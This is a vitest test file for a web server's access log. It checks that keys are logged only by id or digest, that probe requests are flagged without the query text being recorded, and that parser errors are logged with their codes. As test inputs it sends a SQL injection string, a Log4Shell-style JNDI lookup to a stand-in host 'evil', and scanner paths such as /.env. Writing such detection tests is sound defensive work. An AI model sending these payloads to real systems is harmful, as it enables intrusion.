import type { AddressInfo } from 'node:net';
import net from 'node:net';
import { Writable } from 'node:stream';
import pino from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ServerServices } from '../src/app/index.js';
import { E } from '../src/errors/index.js';
import { buildApp } from '../src/http/index.js';
import { classifyTarget, createLogger } from '../src/ops/index.js';
import { sampleServices, tempDir } from './helpers.js';

/**
 * The access line of each kind of answer the security section of the log report reads: who (address,
 * key id — never the key), which catalog code, and whether the target looks like a probe (never the
 * query text). Through a listening server, so Node's parser errors (431, a malformed request) are real.
 */
const ADMIN = 'admin-token-for-access-0123456789';
const tmp = tempDir('alaw-access-');
const lines: Record<string, unknown>[] = [];
let services: ServerServices;
let app: Awaited<ReturnType<typeof buildApp>>;
let base: string;
let port: number;

beforeAll(async () => {
  services = await sampleServices(tmp.dir, { 'auth.adminTokens': ADMIN });
  const sink = new Writable({
    write(chunk: Buffer, _enc, cb) {
      for (const l of chunk.toString().split('\n').filter(Boolean)) lines.push(JSON.parse(l) as Record<string, unknown>);
      cb();
    },
  });
  const access = pino({ base: null, timestamp: pino.stdTimeFunctions.isoTime }, sink);
  services.logging = { logger: createLogger('silent'), access, performance: null, files: null };
  app = await buildApp(services);
  await app.listen({ port: 0, host: '127.0.0.1' });
  port = (app.server.address() as AddressInfo).port;
  base = `http://127.0.0.1:${port}`;
});
afterAll(async () => {
  await app.close();
  await services.close();
  tmp.cleanup();
});

const lineOf = async (requestId: string): Promise<Record<string, unknown>> => {
  for (let i = 0; i < 100; i++) {
    const l = lines.find((x) => x.request_id === requestId);
    if (l) return l;
    await new Promise((r) => setTimeout(r, 10));
  }
  throw new Error(`no access line for ${requestId}`);
};

/** Writes raw bytes and returns the status line's code and the whole answer. */
const raw = (bytes: string): Promise<{ status: number; text: string }> =>
  new Promise((resolve, reject) => {
    const s = net.connect(port, '127.0.0.1', () => s.write(bytes));
    let text = '';
    s.on('data', (d: Buffer) => (text += d.toString('latin1')));
    const done = () => resolve({ status: Number(/^HTTP\/1\.1 (\d{3})/u.exec(text)?.[1]), text });
    s.on('end', done);
    // A server that closes while the client is still sending (a 200 KB header block) resets the connection
    // once its answer is out (Node 24 does; Node 20 happened not to): the answer read before the reset counts.
    s.on('error', (err) => (/^HTTP\/1\.1 \d{3} /u.test(text) ? done() : reject(err)));
  });

describe('access log lines', () => {
  it('name the key of 401/403 answers by id (a wrong key by a digest prefix, never the key) and carry the error code', async () => {
    const { token: userKey, key: record } = await services.keys.create('user', 'user');
    const wrongKey = 'wrong-key-9f8e7d6c5b4a39281706';
    const none = await fetch(`${base}/api/search?q=x`, { headers: { 'x-request-id': 'no-key' } });
    const wrong = await fetch(`${base}/api/search?q=x`, { headers: { 'x-request-id': 'wrong-key', authorization: `Bearer ${wrongKey}` } });
    const user = await fetch(`${base}/api/admin/logs/report`, { headers: { 'x-request-id': 'user-on-admin', authorization: `Bearer ${userKey}` } });
    expect([none.status, wrong.status, user.status]).toEqual([401, 401, 403]);
    expect(await lineOf('no-key')).toMatchObject({ status: 401, error_code: E.AUTH_REQUIRED.code, key: null, ip: '127.0.0.1' });
    expect(await lineOf('wrong-key')).toMatchObject({ status: 401, error_code: E.AUTH_INVALID.code, key: expect.stringMatching(/^invalid:[0-9a-f]{8}$/u) });
    expect(await lineOf('user-on-admin')).toMatchObject({ status: 403, error_code: E.AUTH_FORBIDDEN.code, key: record.id });
    expect(JSON.stringify(lines)).not.toContain(wrongKey);
    expect(JSON.stringify(lines)).not.toContain(userKey);
    // The same wrong key is the same id on every line.
    await fetch(`${base}/api/search?q=x`, { headers: { 'x-request-id': 'wrong-key-2', authorization: `Bearer ${wrongKey}` } });
    expect((await lineOf('wrong-key-2')).key).toBe((await lineOf('wrong-key')).key);
    // The alert monitor's counter saw four failures from this address.
    expect(services.traffic.authFailures.drain().counts.get('127.0.0.1')).toBe(4);
    const ok = await fetch(`${base}/api/search?q=x`, { headers: { 'x-request-id': 'ok', authorization: `Bearer ${ADMIN}` } });
    expect(ok.status).toBe(200);
    expect(await lineOf('ok')).toMatchObject({ status: 200, error_code: null, key: expect.stringMatching(/^env:/u) });
    expect(await lineOf('ok')).not.toHaveProperty('suspicious');
  });

  it('mark probes by kind without logging the query text', async () => {
    const auth = { authorization: `Bearer ${ADMIN}` };
    await fetch(`${base}/.env`, { headers: { 'x-request-id': 'env' } });
    await fetch(`${base}/api/search?q=${encodeURIComponent("' OR 1=1 --")}`, { headers: { 'x-request-id': 'sqli', ...auth } });
    await fetch(`${base}/api/search?q=${encodeURIComponent('${jndi:ldap://evil/a}')}`, { headers: { 'x-request-id': 'jndi', ...auth } });
    expect(await lineOf('env')).toMatchObject({ path: '/.env', status: 404, error_code: E.NOT_FOUND.code, suspicious: ['scanner_path'] });
    expect(await lineOf('sqli')).toMatchObject({ path: '/api/search', status: 200, suspicious: ['sql_injection'] });
    expect(await lineOf('jndi')).toMatchObject({ suspicious: ['jndi'] });
    expect(JSON.stringify(lines)).not.toMatch(/OR 1=1|jndi:ldap/u);
    expect(classifyTarget('/api/search?q=%EB%AF%BC%EB%B2%95%20%EC%A0%9C750%EC%A1%B0')).toEqual([]);
  });

  it('log oversized and malformed requests with their code: 413 and 414 from Fastify, 431 and 400 from Node’s parser', async () => {
    const big = await fetch(`${base}/api/search`, {
      method: 'POST',
      headers: { 'x-request-id': 'big', 'content-type': 'application/json', authorization: `Bearer ${ADMIN}` },
      body: JSON.stringify({ q: 'x'.repeat(2 * 1024 * 1024) }),
    });
    expect(big.status).toBe(413);
    expect(await lineOf('big')).toMatchObject({ status: 413, error_code: E.REQUEST_TOO_LARGE.code });
    const long = await fetch(`${base}/api/precedents/${'a'.repeat(300)}`, { headers: { 'x-request-id': 'long', authorization: `Bearer ${ADMIN}` } });
    expect(long.status).toBe(414);
    expect(await lineOf('long')).toMatchObject({ status: 414, error_code: E.REQUEST_PATH_TOO_LONG.code });

    const before = lines.length;
    const headers = await raw(`GET /api/search?q=x HTTP/1.1\r\nHost: a\r\nX-Pad: ${'a'.repeat(200_000)}\r\n\r\n`);
    const broken = await raw('GET /wp-login.php HTTP/1.1\r\nHost: a\r\nthis is no header\r\n\r\n');
    expect([headers.status, broken.status]).toEqual([431, 400]);
    const parserLines = lines.slice(before).filter((l) => l.request_id === null);
    expect(parserLines).toEqual([
      expect.objectContaining({ method: 'GET', path: '/api/search', status: 431, error_code: E.REQUEST_TOO_LONG.code, ip: '127.0.0.1' }),
      expect.objectContaining({ method: 'GET', path: '/wp-login.php', status: 400, error_code: E.REQUEST_MALFORMED.code, suspicious: ['scanner_path'] }),
    ]);
    // What the line says is what the client got.
    expect(headers.text).toContain(E.REQUEST_TOO_LONG.code);
    expect(broken.text).toContain(E.REQUEST_MALFORMED.code);
  });
});
